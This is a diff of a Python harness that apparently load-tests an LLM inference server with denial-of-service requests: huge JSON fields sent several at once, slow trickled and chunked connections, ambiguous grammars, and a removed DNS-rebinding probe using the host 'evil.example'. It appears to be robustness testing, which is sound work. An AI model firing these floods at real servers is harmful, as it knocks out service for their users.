@@ -12,11 +12,9 @@ from __future__ import annotations
 
 import asyncio
 import json
-import re
 import time
-import urllib.request
 from collections import Counter
-from collections.abc import Awaitable, Callable, Iterable
+from collections.abc import Awaitable, Callable, Iterable, Mapping
 from concurrent.futures import Executor, ProcessPoolExecutor
 from contextlib import suppress
 from dataclasses import dataclass, replace
@@ -43,6 +41,8 @@ QUIET = 5.0
 """Seconds that an attack is watched at least, and that the bystander is heard after it."""
 TOKENS = 100
 """Of a stream of the bystander, whose gaps are noted at its end."""
+GET = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
+NOWHERE = b"POST /nothing HTTP/1.1\r\nHost: localhost"
 HOLD = 80.0
 """Seconds for which a connection is held, if the server lets it."""
 AMBIGUOUS = 'start: e\ne: e e e | e e | "a" | "bb"'
@@ -58,15 +58,13 @@ class Attack:
     model: str = TINY
 
 
-def request(
-    target: Target, path: str, body: bytes, method: str = "POST", host: str = ""
-) -> bytes:
-    """Return the bytes of a request."""
-    head = f"{method} {path} HTTP/1.1\r\nHost: {host or target.host}:{target.port}\r\n"
-    return (
-        f"{head}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode()
-        + body
-    )
+def post(target: Target, body: Mapping[str, Any]) -> bytes:
+    """Return the bytes of a request with a prompt, or else of one of a chat."""
+    path = "/v1/completions" if "prompt" in body else "/v1/chat/completions"
+    data = json.dumps(body, separators=(",", ":"))
+    head = f"POST {path} HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n"
+    head += f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
+    return (head + data).encode()
 
 
 async def answer(target: Target, data: bytes, seconds: float = 60.0) -> str:
@@ -88,27 +86,19 @@ def tally(found: Iterable[str]) -> str:
     return ", ".join(f"{status}: {count}" for status, count in Counter(found).most_common())
 
 
-async def answers(target: Target, requests: Iterable[bytes]) -> str:
+async def answers(target: Target, bodies: Iterable[Mapping[str, Any]]) -> str:
     """Send requests at once, and return how often each answer came."""
-    return tally(await asyncio.gather(*(answer(target, one, 120.0) for one in requests)))
+    data = [post(target, body) for body in bodies]
+    return tally(await asyncio.gather(*(answer(target, one, 120.0) for one in data)))
 
 
-def large(name: str, path: str, field: str, value: str, count: int) -> Attack:
-    """Send a request with one large field, given as JSON, `count` times at once."""
-    needed = '"messages": [{"role": "user", "content": "hi"}], '
-    if field in ("messages", "prompt"):
-        needed = ""
-    text = f'{{{needed}"max_tokens": 4, "{field}": {value}}}'
-
-    def send(target: Target) -> Awaitable[str]:
-        return answers(target, [request(target, path, text.encode())] * count)
-
-    return Attack(f"{name}, {count} at once" if count > 1 else name, send)
-
-
-def numbered(count: int, value: str) -> str:
-    """Return an object of so many keys, as JSON."""
-    return "{" + ",".join(f'"{number}":{value}' for number in range(count)) + "}"
+def large(name: str, fields: Mapping[str, Any], count: int) -> Attack:
+    """Send a request with these fields `count` times at once."""
+    body = {"max_tokens": 4, **fields}
+    if "prompt" not in body:
+        body.setdefault("messages", [{"role": "user", "content": "hi"}])
+    name = f"{name}, {count} at once" if count > 1 else name
+    return Attack(name, lambda target: answers(target, [body] * count))
 
 
 def trickle(first: bytes, drip: bytes) -> Callable[[Target], Awaitable[str]]:
@@ -132,7 +122,7 @@ def trickle(first: bytes, drip: bytes) -> Callable[[Target], Awaitable[str]]:
         await asyncio.sleep(2.0)
         others = []
         for _ in range(24):
-            others.append(await answer(target, request(target, "/health", b"", "GET"), 5.0))
+            others.append(await answer(target, GET, 5.0))
             await asyncio.sleep(0.2)
         found = await asyncio.gather(*holders, return_exceptions=True)
         held = [one for one in found if isinstance(one, float)]
@@ -141,50 +131,19 @@ def trickle(first: bytes, drip: bytes) -> Callable[[Target], Awaitable[str]]:
     return send
 
 
-async def leaver(target: Target) -> str:
-    """Ask for 16,000 tokens with another request behind it in the same packet, and leave."""
-    body = json.dumps(
-        {"prompt": [5, 6, 7], "n": 16, "max_tokens": 1000, "ignore_eos": True}
-    ).encode()
-    before = await asyncio.to_thread(metric, target, "generation_tokens_total")
-    _, writer = await asyncio.open_connection(target.host, target.port)
-    writer.write(
-        request(target, "/v1/completions", body) + request(target, "/health", b"", "GET")
-    )
-    await asyncio.sleep(0.3)
-    writer.transport.abort()
-    await asyncio.sleep(0.5)  # a step and a report of the engine
-    left = (
-        await asyncio.to_thread(metric, target, "num_requests_running") - 1
-    )  # the bystander's
-    tokens = await asyncio.to_thread(metric, target, "generation_tokens_total") - before
-    return f"{left:.0f} of 16 still run after 0.5 s; {tokens:.0f} tokens"
-
-
-def foreign(target: Target) -> Awaitable[str]:
-    """Ask under a name that is not this machine's, as a page does after DNS rebinding."""
-    paths = ("/", "/v1/models", "/events", "/metrics")
-    return answers(
-        target, (request(target, path, b"", "GET", "evil.example") for path in paths)
-    )
-
-
 def ambiguous(target: Target) -> Awaitable[str]:
     """Follow an ambiguous grammar sixteen times at once; each a little different, so none is shared."""
-    body = {"prompt": "a a a", "max_tokens": 300}
     grammars = (f'{AMBIGUOUS} | "{"c" * count}"' for count in range(1, 17))
-    bodies = (json.dumps({**body, "guided_grammar": one}).encode() for one in grammars)
-    return answers(target, (request(target, "/v1/completions", one) for one in bodies))
+    asks = {"prompt": "a a a", "max_tokens": 300}
+    return answers(target, ({**asks, "guided_grammar": grammar} for grammar in grammars))
 
 
-def repeated_json(target: Target) -> str:
+def repeated_json(target: Target) -> Awaitable[str]:
     """Ask forty chats for JSON whose conversation has such JSON already: drafts reach the end of the text."""
-    said = [
-        {"role": "user", "content": "Which colour is the sky?"},
-        {"role": "assistant", "content": '{"colour": "blue"}'},
-        {"role": "user", "content": "Which colour is grass?"},
-        {"role": "assistant", "content": '{"colour": "green"}'},
-    ]
+    said = []
+    for thing, colour in (("the sky", "blue"), ("grass", "green")):
+        said.append({"role": "user", "content": f"Which colour is {thing}?"})
+        said.append({"role": "assistant", "content": json.dumps({"colour": colour})})
     schema = {
         "type": "object",
         "properties": {"colour": {"enum": ["blue", "green", "red"]}},
@@ -194,52 +153,35 @@ def repeated_json(target: Target) -> str:
     form = {"name": "colour", "schema": schema, "strict": True}
     body: dict[str, Any] = {"max_tokens": 60, "temperature": 0}
     body["response_format"] = {"type": "json_schema", "json_schema": form}
-
-    def one(number: int) -> bytes:
-        asks = {"role": "user", "content": f"Which colour is thing {number}?"}
-        text = json.dumps({**body, "messages": [*said, asks]})
-        return request(target, "/v1/chat/completions", text.encode())
-
-    return answers(target, map(one, range(40)))
+    asked = ({"role": "user", "content": f"Which colour is thing {at}?"} for at in range(40))
+    return answers(target, ({**body, "messages": [*said, ask]} for ask in asked))
 
 
 def attacks() -> list[Attack]:
     """Return every attack, the cheap ones first."""
-    text = json.dumps("a" * 3_999_000)
-    lists = '{"a":[' + ",".join(["[]"] * 1_300_000) + "]}"
-    said = "[" + ",".join(['{"role":"user","content":""}'] * 140_000) + "]"
-    chats, completions = "/v1/chat/completions", "/v1/completions"
-    fields = [
-        ("prompt of 4 MB", completions, "prompt", text),
-        ("logit_bias of 250,000 keys", chats, "logit_bias", numbered(250_000, "1")),
-        ("60,000 template arguments", chats, "chat_template_kwargs", numbered(60_000, "1")),
-        ("metadata of 1.3 M lists", chats, "metadata", lists),
-        ("200,000 unknown fields", chats, "unknown", '1, ' + numbered(200_000, "1")[1:-1]),
-        ("140,000 messages", chats, "messages", said),
-    ]  # fmt: skip
-    chunked = (
-        b"POST /nothing HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
-    )
-    long_get = b"GET /health HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n"
-    get = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
+    fields: dict[str, dict[str, Any]] = {
+        "prompt of 4 MB": {"prompt": "a" * 3_999_000},
+        "logit_bias of 250,000 keys": {"logit_bias": numbered(250_000)},
+        "60,000 template arguments": {"chat_template_kwargs": numbered(60_000)},
+        "metadata of 1.3 M lists": {"metadata": {"a": [[]] * 1_300_000}},
+        "200,000 unknown fields": numbered(200_000),
+        "140,000 messages": {"messages": [{"role": "user", "content": ""}] * 140_000},
+    }
+    length = b"\r\nContent-Length: 1000000000\r\n\r\n"
+    chunked = b"\r\nTransfer-Encoding: chunked\r\n\r\n"
     return [
-        Attack("names of other machines", foreign),
-        Attack("a leaver with a request behind", leaver),
-        *(large(*field, count) for field in fields for count in (1, 4)),
-        Attack("100 trickles after an answer", trickle(get, b"\r\n")),
-        Attack("100 bodies behind a GET", trickle(long_get, b"x")),
-        Attack("100 bodies behind a 404", trickle(chunked, b"1\r\nx\r\n")),
+        *(large(*field, count) for field in fields.items() for count in (1, 4)),
+        Attack("100 trickles after an answer", trickle(GET, b"\r\n")),
+        Attack("100 bodies behind a GET", trickle(GET[:-4] + length, b"x")),
+        Attack("100 bodies behind a 404", trickle(NOWHERE + chunked, b"1\r\nx\r\n")),
         Attack("JSON that the chat repeats", repeated_json, REAL),
         Attack("16 ambiguous grammars", ambiguous, REAL),
-    ]  # fmt: skip
+    ]
 
 
-def metric(target: Target, name: str) -> float:
-    """Return the sum of a metric of the server."""
-    url = f"http://{target.host}:{target.port}/metrics"
-    with urllib.request.urlopen(url, timeout=30) as found:
-        values = re.findall(rf"(?m)^vllm:{name}(?:{{.*}})? (.*)", found.read().decode())
-    return sum(map(float, values))
+def numbered(count: int) -> dict[str, int]:
+    """Return so many fields."""
+    return {str(number): 1 for number in range(count)}
 
 
 def stream(target: Target) -> list[float]:
